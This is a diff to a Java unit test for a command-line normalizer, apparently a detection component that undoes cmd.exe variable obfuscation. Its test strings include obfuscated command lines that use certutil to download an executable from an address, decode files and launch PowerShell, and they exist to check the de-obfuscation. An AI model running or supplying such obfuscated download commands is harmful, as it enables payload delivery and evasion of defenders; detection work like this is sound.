@@ -151,6 +151,22 @@ class CommandLineNormalizerTest {
     }
 
     @Test
+    void variablesTheCommandLineSetsAreExpandedWhereUsed() {
+        // Invoke-DOSfuscation's concatenation, substitution and substring forms
+        assertEquals("cmd -v:on -c set a=cert&&set b=util&&call certutil -urlcache -f http://10.1.2.3/a.exe",
+                n("cmd /V:ON /C \"set a=cert&&set b=util&&call %a%%b% -urlcache -f http://10.1.2.3/a.exe\""));
+        assertEquals("cmd -c set x=c@ert@util&&call certutil -decode a b", n("cmd /c \"set x=c@ert@util&&call %x:@=% -decode a b\""));
+        assertEquals("cmd -v:on -c set q=xxwhoamixx&&call whoami", n("cmd /v:on /c \"set q=xxwhoamixx&&call !q:~2,6!\""));
+        // quoted assignments, a value built from an earlier one
+        // (the assignments stay as written; where the variables are used, their values)
+        assertEquals("cmd -c set p=power&& set q=%p:power=p%shell&&call powershell -noprofile",
+                n("cmd /c \"set \"p=power\"&& set \"q=%p:power=p%shell\"&&call %p%%q:~1% -nop\""));
+        // set /a, an unknown variable and a reference before its set stay as written
+        assertEquals("cmd -c set -a x=1+2&&echo %x%", n("cmd /c set /a x=1+2&&echo %x%"));
+        assertEquals("echo %nothing% &set y=1", n("echo %nothing% &set y=1"));
+    }
+
+    @Test
     void hostileInputIsBoundedAndLinear() {
         assertNull(n(null));
         assertEquals("", n(""));
@@ -159,6 +175,8 @@ class CommandLineNormalizerTest {
         assertTrue(r.length() <= CommandLineNormalizer.MAX_INPUT, "normalised " + r.length());
         String percents = "%COMSPEC:".repeat(20_000);
         assertTrue(n(percents).length() <= CommandLineNormalizer.MAX_INPUT);
+        String sets = "set a=" + "x".repeat(4_000) + "&&" + "%a%".repeat(10_000) + "%a:".repeat(5_000);
+        assertTrue(n(sets).length() <= 2 * CommandLineNormalizer.MAX_INPUT);
         String spaces = "powershell " + "-e ".repeat(15_000);
         assertTrue(n(spaces).startsWith("powershell -encodedcommand"));
     }
